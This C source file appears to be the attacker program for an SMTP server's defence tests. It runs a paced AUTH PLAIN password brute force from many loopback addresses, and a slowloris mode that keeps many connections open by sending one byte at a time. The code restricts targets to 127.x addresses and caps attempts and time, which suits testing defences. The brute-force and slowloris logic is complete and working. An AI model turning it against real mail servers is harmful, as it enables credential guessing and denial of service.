/*
 * smtp_attack.c - the attacker of the defence tests, loopback only: an AUTH
 * brute force from 127.x.y.FIRST-LAST paced to a total rate and bounded in
 * attempts and time, or a slowloris of many one-byte-a-second connections.
 * A connection refused at accept counts as one refused attempt. See usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "base/b64.h"
#include "base/buf.h"

#define ATK_SOURCES_MAX 256
#define ATK_THREADS_MAX 4096

struct atk_src {
	char addr[32];
	atomic_ulong attempts, auth_fail, refused, tempfail, kicked, other, conn_error;
};

static struct {
	int port, starttls, threads, per_conn;
	unsigned long attempts, per_source;
	double rate;
	int64_t start, duration_ms;
	const char *user, *password, *net;
	struct atk_src src[ATK_SOURCES_MAX];
	int nsrc;
	atomic_ulong slot; /* attempts handed out so far */
	SSL_CTX *ssl;
} atk;

static int64_t atk_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void atk_sleep_until(int64_t t)
{
	int64_t now = atk_now();
	struct timespec ts;

	if (t <= now)
		return;
	ts.tv_sec = (t - now) / 1000;
	ts.tv_nsec = (long)((t - now) % 1000) * 1000000;
	nanosleep(&ts, NULL);
}

/* A slot for one more attempt from s, paced to the global rate; 0 when
 * the budget, the source's share or the time is spent. */
static int atk_take(struct atk_src *s)
{
	unsigned long n;

	if (atk_now() - atk.start >= atk.duration_ms)
		return 0;
	if (atk.per_source > 0 && atomic_load(&s->attempts) >= atk.per_source)
		return 0;
	n = atomic_fetch_add(&atk.slot, 1);
	if (n >= atk.attempts)
		return 0;
	if (atk.rate > 0)
		atk_sleep_until(atk.start + (int64_t)((double)n * 1000.0 / atk.rate));
	atomic_fetch_add(&s->attempts, 1);
	return 1;
}

struct atk_io {
	int fd;
	SSL *ssl;
	char buf[4096];
	size_t len;
};

static int atk_connect(const char *src, int port, int nonblock)
{
	struct sockaddr_in a, b;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | (nonblock ? SOCK_NONBLOCK : 0), 0);
	int one = 1;

	if (fd < 0)
		return -1;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	inet_pton(AF_INET, src, &a.sin_addr);
	memset(&b, 0, sizeof(b));
	b.sin_family = AF_INET;
	b.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, "127.0.0.1", &b.sin_addr);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ||
	    (connect(fd, (struct sockaddr *)&b, sizeof(b)) < 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	if (!nonblock) {
		struct timeval tv = {30, 0};
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	}
	return fd;
}

static int atk_write(struct atk_io *io, const char *s)
{
	size_t n = strlen(s);

	if (io->ssl != NULL)
		return SSL_write(io->ssl, s, (int)n) == (int)n ? 0 : -1;
	return write(io->fd, s, n) == (ssize_t)n ? 0 : -1;
}

/* The status code of the next whole reply, 0 on EOF or error. */
static int atk_reply(struct atk_io *io)
{
	for (;;) {
		char *nl;
		long r;
		while ((nl = memchr(io->buf, '\n', io->len)) != NULL) {
			size_t l = (size_t)(nl - io->buf) + 1;
			int code = atoi(io->buf), last = l >= 4 && io->buf[3] != '-';
			memmove(io->buf, io->buf + l, io->len - l);
			io->len -= l;
			if (last)
				return code;
		}
		if (io->len == sizeof(io->buf))
			return 0;
		if (io->ssl != NULL)
			r = SSL_read(io->ssl, io->buf + io->len, (int)(sizeof(io->buf) - io->len));
		else
			r = read(io->fd, io->buf + io->len, sizeof(io->buf) - io->len);
		if (r <= 0)
			return 0;
		io->len += (size_t)r;
	}
}

static void atk_close(struct atk_io *io)
{
	if (io->ssl != NULL) {
		SSL_shutdown(io->ssl);
		SSL_free(io->ssl);
	}
	close(io->fd);
}

/* One connection of the brute force: as many AUTH attempts as it may. */
static void atk_session(struct atk_src *s, unsigned long *serial)
{
	struct atk_io io;
	int code, k;

	memset(&io, 0, sizeof(io));
	io.fd = atk_connect(s->addr, atk.port, 0);
	if (io.fd < 0) {
		atomic_fetch_add(&s->conn_error, 1);
		atomic_fetch_add(&s->refused, 1);
		return;
	}
	code = atk_reply(&io);
	if (code != 220) {
		/* 421 at accept, or closed: the defence refused us. */
		atomic_fetch_add(&s->refused, 1);
		atk_close(&io);
		return;
	}
	if (atk_write(&io, "EHLO attacker.test\r\n") < 0 || atk_reply(&io) != 250)
		goto kicked;
	if (atk.starttls) {
		if (atk_write(&io, "STARTTLS\r\n") < 0 || atk_reply(&io) != 220)
			goto kicked;
		io.ssl = SSL_new(atk.ssl);
		SSL_set_fd(io.ssl, io.fd);
		if (SSL_connect(io.ssl) != 1 || atk_write(&io, "EHLO attacker.test\r\n") < 0 ||
		    atk_reply(&io) != 250)
			goto kicked;
	}
	for (k = 0; k < atk.per_conn; k++) {
		struct buf raw = BUF_INIT(512), b64 = BUF_INIT(1024), line = BUF_INIT(1200);
		if (k > 0 && !atk_take(s))
			break;
		buf_addc(&raw, '\0');
		buf_adds(&raw, atk.user);
		buf_addc(&raw, '\0');
		if (atk.password != NULL)
			buf_adds(&raw, atk.password);
		else
			buf_printf(&raw, "wrong-%lu", (*serial)++);
		b64_encode(raw.data, raw.len, &b64);
		buf_printf(&line, "AUTH PLAIN %s\r\n", buf_cstr(&b64));
		code = atk_write(&io, buf_cstr(&line)) < 0 ? 0 : atk_reply(&io);
		buf_free(&raw);
		buf_free(&b64);
		buf_free(&line);
		if (code == 535)
			atomic_fetch_add(&s->auth_fail, 1);
		else if (code == 235) {
			/* --password: a right one (trusted networks test). */
			atomic_fetch_add(&s->other, 1);
			break;
		} else if (code == 454)
			atomic_fetch_add(&s->tempfail, 1);
		else if (code == 421 || code == 0) {
			atomic_fetch_add(&s->kicked, 1);
			atk_close(&io);
			return;
		} else
			atomic_fetch_add(&s->other, 1);
	}
	atk_write(&io, "QUIT\r\n");
	atk_reply(&io);
	atk_close(&io);
	return;
kicked:
	atomic_fetch_add(&s->kicked, 1);
	atk_close(&io);
}

static void *atk_thread(void *arg)
{
	struct atk_src *s = arg;
	unsigned long serial = 0;

	while (atk_take(s))
		atk_session(s, &serial);
	return NULL;
}

/* ---- slowloris ---------------------------------------------------------- */

struct atk_slow {
	int fd, src;
	int64_t next;
	unsigned long sent;
};

static int atk_slowloris(int conns, int interval)
{
	struct atk_slow *c = calloc((size_t)conns, sizeof(*c));
	struct pollfd *pfd = calloc((size_t)conns, sizeof(*pfd));
	unsigned long opened = 0, dropped = 0, failed = 0, maxopen = 0, bytes = 0;
	int i;

	if (c == NULL || pfd == NULL)
		return 1;
	for (i = 0; i < conns; i++) {
		c[i].src = i % atk.nsrc;
		c[i].fd = -1;
	}
	while (atk_now() - atk.start < atk.duration_ms) {
		int64_t now = atk_now(), next = now + 1000;
		unsigned long open = 0;
		for (i = 0; i < conns; i++) {
			if (c[i].fd < 0) {
				/* Like slowloris.pl: a lost socket is opened again
				 * on its next tick, not at once. */
				if (now < c[i].next) {
					if (c[i].next < next)
						next = c[i].next;
					continue;
				}
				c[i].fd = atk_connect(atk.src[c[i].src].addr, atk.port, 1);
				if (c[i].fd < 0) {
					failed++;
					c[i].next = now + interval;
					continue;
				}
				opened++;
				c[i].sent = 0;
				c[i].next = now + interval;
			}
			if (now >= c[i].next) {
				/* "EHLO aaaa..." one byte at a time, never a line end. */
				char ch = c[i].sent < 5 ? "EHLO "[c[i].sent] : 'a';
				if (write(c[i].fd, &ch, 1) == 1) {
					c[i].sent++;
					bytes++;
				}
				c[i].next = now + interval;
			}
			if (c[i].next < next)
				next = c[i].next;
			open++;
			pfd[i] = (struct pollfd){c[i].fd, POLLIN, 0};
		}
		if (open > maxopen)
			maxopen = open;
		for (i = 0; i < conns; i++)
			if (c[i].fd < 0)
				pfd[i] = (struct pollfd){-1, 0, 0};
		poll(pfd, (nfds_t)conns, (int)(next > now ? next - now : 0));
		for (i = 0; i < conns; i++) {
			char tmp[4096];
			ssize_t r;
			if (c[i].fd < 0 || !(pfd[i].revents & (POLLIN | POLLHUP | POLLERR)))
				continue;
			r = read(c[i].fd, tmp, sizeof(tmp));
			if (r <= 0 && !(r < 0 && errno == EAGAIN)) {
				close(c[i].fd);
				c[i].fd = -1;
				c[i].next = atk_now() + interval;
				dropped++;
			}
		}
	}
	for (i = 0; i < conns; i++)
		if (c[i].fd >= 0)
			close(c[i].fd);
	printf("total mode=slowloris conns=%d opened=%lu dropped_by_server=%lu connect_failed=%lu "
	       "max_open=%lu bytes=%lu elapsed_ms=%lld\n",
	       conns, opened, dropped, failed, maxopen, bytes, (long long)(atk_now() - atk.start));
	free(c);
	free(pfd);
	return 0;
}

static int atk_usage(void)
{
	fprintf(stderr,
	        "usage: smtp_attack auth --port P --sources FIRST-LAST [--net 127.0.0.]\n"
	        "           [--threads N] [--attempts N] [--rate N] [--per-source N]\n"
	        "           [--per-conn N] [--user U] [--password P] [--starttls] [--duration S]\n"
	        "       smtp_attack slowloris --port P --sources FIRST-LAST --conns N\n"
	        "           [--interval MS] [--duration S]\n"
	        "Prints one key=value line per source and a \"total\" line.\n");
	return 64;
}

int main(int argc, char **argv)
{
	const char *mode;
	int first = 2, last = 2, i, conns = 100, interval = 1000;
	pthread_t *th;
	unsigned long tot[7] = {0};

	if (argc < 2)
		return atk_usage();
	mode = argv[1];
	atk.threads = 4;
	atk.per_conn = 3;
	atk.attempts = 50000;
	atk.user = "alice";
	atk.net = "127.0.0.";
	atk.duration_ms = 120000;
	for (i = 2; i < argc; i++) {
		const char *o = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (strcmp(o, "--starttls") == 0) {
			atk.starttls = 1;
			continue;
		}
		if (v == NULL)
			return atk_usage();
		i++;
		if (strcmp(o, "--port") == 0)
			atk.port = atoi(v);
		else if (strcmp(o, "--sources") == 0) {
			if (sscanf(v, "%d-%d", &first, &last) != 2)
				first = last = atoi(v);
		} else if (strcmp(o, "--threads") == 0)
			atk.threads = atoi(v);
		else if (strcmp(o, "--attempts") == 0)
			atk.attempts = strtoul(v, NULL, 10);
		else if (strcmp(o, "--per-source") == 0)
			atk.per_source = strtoul(v, NULL, 10);
		else if (strcmp(o, "--per-conn") == 0)
			atk.per_conn = atoi(v);
		else if (strcmp(o, "--rate") == 0)
			atk.rate = atof(v);
		else if (strcmp(o, "--user") == 0)
			atk.user = v;
		else if (strcmp(o, "--password") == 0)
			atk.password = v;
		else if (strcmp(o, "--net") == 0)
			atk.net = v;
		else if (strcmp(o, "--duration") == 0)
			atk.duration_ms = (int64_t)(atof(v) * 1000);
		else if (strcmp(o, "--conns") == 0)
			conns = atoi(v);
		else if (strcmp(o, "--interval") == 0)
			interval = atoi(v);
		else
			return atk_usage();
	}
	/* Loopback only: 127.X.Y.FIRST .. 127.X.Y.LAST. */
	if (atk.port <= 0 || strncmp(atk.net, "127.", 4) != 0 || strlen(atk.net) > 16 ||
	    first < 1 || last > 254 || last < first || last - first + 1 > ATK_SOURCES_MAX ||
	    atk.threads < 1 || atk.per_conn < 1)
		return atk_usage();
	for (i = first; i <= last; i++)
		snprintf(atk.src[atk.nsrc++].addr, sizeof(atk.src[0].addr), "%s%d", atk.net, i);
	atk.start = atk_now();
	if (strcmp(mode, "slowloris") == 0)
		return atk_slowloris(conns, interval);
	if (strcmp(mode, "auth") != 0)
		return atk_usage();
	atk.ssl = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_verify(atk.ssl, SSL_VERIFY_NONE, NULL);
	if (atk.threads * atk.nsrc > ATK_THREADS_MAX)
		return atk_usage();
	th = calloc((size_t)(atk.threads * atk.nsrc), sizeof(*th));
	for (i = 0; i < atk.threads * atk.nsrc; i++)
		pthread_create(&th[i], NULL, atk_thread, &atk.src[i % atk.nsrc]);
	for (i = 0; i < atk.threads * atk.nsrc; i++)
		pthread_join(th[i], NULL);
	for (i = 0; i < atk.nsrc; i++) {
		struct atk_src *s = &atk.src[i];
		unsigned long v[7] = {s->attempts, s->auth_fail, s->refused,   s->tempfail,
		                      s->kicked,   s->other,     s->conn_error};
		int k;
		printf("source=%s attempts=%lu auth_fail=%lu refused=%lu tempfail=%lu kicked=%lu "
		       "other=%lu conn_error=%lu\n",
		       s->addr, v[0], v[1], v[2], v[3], v[4], v[5], v[6]);
		for (k = 0; k < 7; k++)
			tot[k] += v[k];
	}
	printf("total mode=auth attempts=%lu auth_fail=%lu refused=%lu tempfail=%lu kicked=%lu "
	       "other=%lu conn_error=%lu elapsed_ms=%lld\n",
	       tot[0], tot[1], tot[2], tot[3], tot[4], tot[5], tot[6],
	       (long long)(atk_now() - atk.start));
	free(th);
	SSL_CTX_free(atk.ssl);
	return 0;
}
